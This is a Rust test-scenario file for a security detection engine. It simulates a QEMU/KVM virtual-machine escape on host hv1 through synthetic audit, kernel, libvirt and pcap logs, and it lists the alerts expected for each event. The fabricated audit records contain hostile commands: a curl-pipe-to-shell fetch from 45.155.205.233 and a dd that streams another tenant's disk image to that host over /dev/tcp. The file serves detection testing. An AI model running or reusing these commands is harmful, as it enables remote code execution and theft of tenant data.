//! VM escape: a guest on hypervisor hv1 (acme-web01, QEMU pid 4821) crashes virtio emulation,
//! trips KVM's emulator, and ends up running a shell inside the QEMU process; a host-side
//! intruder opens /dev/kvm and reads another tenant's disk image; the guest probes the
//! hypervisor's management ports.

use std::net::Ipv4Addr;

use super::logs::{self, Audit, Proc};
use super::wire::{Conn, Pcap};
use super::{at, expect, Input, Scenario};

pub const SUMMARY: &str = "QEMU runs a shell, KVM emulation failures, /dev/kvm and guest-image access, a guest probing the hypervisor";

const SVIRT: &str = "system_u:system_r:svirt_t:s0:c58,c797";
const UNCONFINED: &str = "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023";
const QEMU: &str = "/usr/bin/qemu-system-x86_64";

/// The QEMU start and what follows it in the hypervisor's audit log, from `base` seconds on.
pub(super) fn qemu_audit(base: i64) -> Input {
    let mut a = Audit::new("hv1", 4_240);
    let qemu = Proc {
        pid: 4821,
        ppid: 1190,
        uid: 107,
        auid: u32::MAX,
        exe: QEMU,
        subj: SVIRT,
    };
    a.execve(
        at(base).plus_ms(112),
        &qemu,
        &[
            "/usr/bin/qemu-system-x86_64",
            "-name",
            "guest=acme-web01,debug-threads=on",
            "-S",
            "-machine",
            "pc-q35-8.2,usb=off,dump-guest-core=off",
            "-accel",
            "kvm",
            "-cpu",
            "host",
            "-m",
            "4096",
            "-smp",
            "2,sockets=2,cores=1,threads=1",
            "-uuid",
            "6f2c9e4a-1b7d-4c3e-9f0a-2d5b8e7c1a93",
            "-no-user-config",
            "-nodefaults",
            "-device",
            "virtio-net-pci,netdev=hostnet0,id=net0,mac=52:54:00:1a:04:14",
        ],
        "/",
        None,
    );
    let shell = Proc {
        pid: 7001,
        ppid: 4821,
        uid: 107,
        auid: u32::MAX,
        exe: "/usr/bin/bash",
        subj: SVIRT,
    };
    a.execve(
        at(base + 180).plus_ms(431),
        &shell,
        &[
            "sh",
            "-c",
            "id; uname -a; curl -s http://45.155.205.233/s.sh | sh",
        ],
        "/",
        None,
    );
    let curl = Proc {
        pid: 7003,
        ppid: 7001,
        uid: 107,
        auid: u32::MAX,
        exe: "/usr/bin/curl",
        subj: SVIRT,
    };
    a.execve(
        at(base + 180).plus_ms(467),
        &curl,
        &["curl", "-s", "http://45.155.205.233/s.sh"],
        "/",
        None,
    );
    let py = Proc {
        pid: 7120,
        ppid: 7001,
        uid: 0,
        auid: u32::MAX,
        exe: "/usr/bin/python3.11",
        subj: UNCONFINED,
    };
    a.on_path(
        at(base + 200).plus_ms(5),
        &py,
        257,
        "80002",
        "/dev/kvm",
        &["python3", "/tmp/.k/kvmctl.py"],
        Some("kvm"),
    );
    let dd = Proc {
        pid: 7188,
        ppid: 7001,
        uid: 0,
        auid: u32::MAX,
        exe: "/usr/bin/dd",
        subj: UNCONFINED,
    };
    a.on_path(
        at(base + 240).plus_ms(77),
        &dd,
        257,
        "0",
        "/var/lib/libvirt/images/globex-db01.qcow2",
        &[
            "dd",
            "if=/var/lib/libvirt/images/globex-db01.qcow2",
            "of=/dev/tcp/45.155.205.233/9001",
            "bs=4M",
        ],
        Some("libvirt_images"),
    );
    Input::text("qemu_audit.log", a.text)
}

/// The hypervisor's kernel messages over syslog.
pub(super) fn kernel_log(base: i64) -> Input {
    let mut s = String::new();
    s += &logs::syslog(6, at(base + 30), "hv1", "kernel", None, "[91012.002311] kvm: SMP vm created on host with unstable TSC; guest TSC will not be reliable");
    s += &logs::syslog(
        4,
        at(base + 150).plus_ms(18),
        "hv1",
        "kernel",
        None,
        "[91132.118022] kvm [4821]: vcpu0, guest rIP: 0xffffffff8100a2b3 emulation failure",
    );
    s += &logs::syslog(4, at(base + 151).plus_ms(2), "hv1", "kernel", None, "[91133.002101] kvm [4821]: vcpu1, guest rIP: 0xffffffff8100a2b3 disabled perfctr wrmsr: 0xc2 data 0xffff");
    s += &logs::syslog(6, at(base + 300).plus_ms(441), "hv1", "kernel", None, "[91282.441207] qemu-system-x86[4821]: segfault at 7f3a1c000010 ip 000055d0c1a2b3c4 sp 00007f3a2bffe8d0 error 6 in qemu-system-x86_64[55d0c1800000+8b6000]");
    Input::text("hv1_kernel.log", s)
}

/// The guest's QEMU log and libvirtd's log.
fn qemu_and_libvirt_logs(base: i64) -> (Input, Input) {
    let mut q = String::new();
    q += &logs::qemu(
        at(base + 2),
        "qemu-system-x86_64",
        "-device virtio-net-pci,netdev=hostnet0: info: launching vhost",
    );
    q += &logs::qemu(
        at(base + 120).plus_ms(7),
        "qemu-system-x86_64",
        "VQ 0 size 0x100 Guest index 0xe4f3 inconsistent with Host index 0x12: delta 0xe4e1",
    );
    q += &logs::qemu(
        at(base + 150).plus_ms(20),
        "qemu-system-x86_64",
        "error: kvm run failed Bad address",
    );
    q += "KVM internal error. Suberror: 1\n";
    q += "emulation failure\n";
    let mut l = String::new();
    l += &logs::libvirt(
        at(base),
        2231,
        "info",
        "qemuProcessLaunch",
        7650,
        "Domain id=7 is tainted: host-cpu",
    );
    l += &logs::libvirt(
        at(base + 300).plus_ms(512),
        2231,
        "error",
        "qemuMonitorIORead",
        612,
        "Unable to read from monitor: Connection reset by peer",
    );
    l += &logs::libvirt(at(base + 300).plus_ms(514), 2231, "error", "qemuProcessReportLogError", 2051, "internal error: qemu unexpectedly closed the monitor: qemu-system-x86_64: terminating on signal 11");
    (
        Input::text("acme-web01.qemu.log", q),
        Input::text("libvirtd.log", l),
    )
}

/// The guest (acme-web01, 10.1.4.20) probing hv1's ports.
fn probe_pcap(base: i64) -> Input {
    let guest = Ipv4Addr::new(10, 1, 4, 20);
    let hv = Ipv4Addr::new(192, 168, 100, 1);
    let mut p = Pcap::new();
    for (i, port) in [22u16, 111, 5900, 16509, 16514, 49152, 2049]
        .iter()
        .enumerate()
    {
        let c = Conn::new(guest, 51_200 + i as u16, hv, *port);
        let t = at(base + 60).plus_ms(i as i64 * 350).micros();
        if *port == 22 {
            c.session(
                &mut p,
                t,
                &[(b"", b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n")],
                1_000,
            );
        } else {
            c.refused(&mut p, t);
        }
    }
    Input {
        name: "tenant_to_hv.pcap",
        bytes: p.into_bytes(),
    }
}

pub fn scenario() -> Scenario {
    let (qemu_log, libvirt_log) = qemu_and_libvirt_logs(0);
    Scenario {
        name: "vm-escape",
        description: "A guest of tenant acme breaks out through QEMU on hv1: virtio and KVM emulation errors, QEMU runs a shell and curl, a root process opens /dev/kvm and copies globex's disk image, QEMU crashes; the guest scans hv1's ports.",
        inputs: vec![qemu_audit(0), kernel_log(0), qemu_log, libvirt_log, probe_pcap(0)],
        expect: vec![
            expect("QEMU spawns a shell", &["cloud.vm_escape", "attack.privilege_escalation", "attack.t1611", "attack.execution", "attack.t1059"], "critical"),
            expect("KVM emulation failure", &["cloud.vm_escape", "attack.privilege_escalation", "attack.t1068"], "high"),
            expect("QEMU crashes", &["cloud.vm_escape", "attack.impact", "attack.t1499"], "medium"),
            expect("/dev/kvm opened outside the hypervisor", &["cloud.vm_escape", "attack.privilege_escalation", "attack.t1068", "attack.t1611"], "high"),
            expect("Another tenant's disk image read", &["cloud.vm_escape", "attack.collection", "attack.t1005"], "high"),
            expect("Guest connects to the hypervisor", &["cloud.vm_escape", "attack.lateral_movement", "attack.t1210"], "high"),
            expect("Guest scans the hypervisor's ports", &["cloud.vm_escape", "attack.discovery", "attack.t1046"], "critical"),
        ],
    }
}
